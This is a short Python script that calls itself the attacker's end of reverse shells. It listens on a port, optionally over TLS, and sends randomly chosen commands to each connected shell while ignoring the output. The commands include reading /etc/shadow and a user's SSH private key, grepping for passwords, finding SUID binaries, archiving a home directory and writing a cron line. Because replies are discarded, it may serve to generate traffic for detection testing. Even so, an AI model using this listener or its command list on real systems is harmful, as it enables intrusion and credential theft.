# c2.py PORT [PACE]: the attacker's end of reverse shells: types commands to whoever comes; with TLS where a third word is given.
import random, socket, ssl, sys, threading, time

r = random.Random()
pace = float((sys.argv[2:] or ['1.5'])[0])
SAY = [
    'id',
    'whoami',
    'uname -a',
    'cat /etc/passwd',
    'ls -la /root /home/* /tmp',
    'ps aux',
    'ss -tlnp',
    'netstat -an',
    'find / -xdev -perm -4000 -type f 2>/dev/null | head',
    'cat /etc/shadow',
    'env',
    'ls -la /var/www',
    'grep -ril password /etc 2>/dev/null | head',
    'for i in 1 2 3 4 5; do echo $i; sleep 0.2; done',
    'df -h; mount',
    'cat /proc/cpuinfo /proc/meminfo',
    'cd /tmp; ls; pwd',
    'head -c 200000 /dev/urandom | base64 > /tmp/.x; wc -c /tmp/.x; rm /tmp/.x',
    'cat /home/alice/.ssh/id_rsa',
    'w',
    'ip addr',
    'cat /etc/hosts',
    'tar cf /tmp/.l.tar /home/bob 2>/dev/null; ls -l /tmp/.l.tar',
    'echo "* * * * * true" >> /tmp/.cron',
    'which gcc python3 perl curl wget nc',
    'ls -la /usr/local/bin /opt',
    'head -50 /var/log/dpkg.log',
]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1])))
s.listen(9)
if len(sys.argv) > 3:
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    c.load_cert_chain(sys.argv[3])
    s = c.wrap_socket(s, server_side=True)


def serve(c):
    def drain():
        try:
            while c.recv(65536):
                pass
        except OSError:
            pass

    threading.Thread(target=drain, daemon=True).start()
    try:
        while True:
            time.sleep(r.expovariate(1 / pace) + 0.1)
            c.sendall((r.choice(SAY) + '\n').encode())
    except OSError:
        pass


while True:
    try:
        threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
    except OSError:
        pass
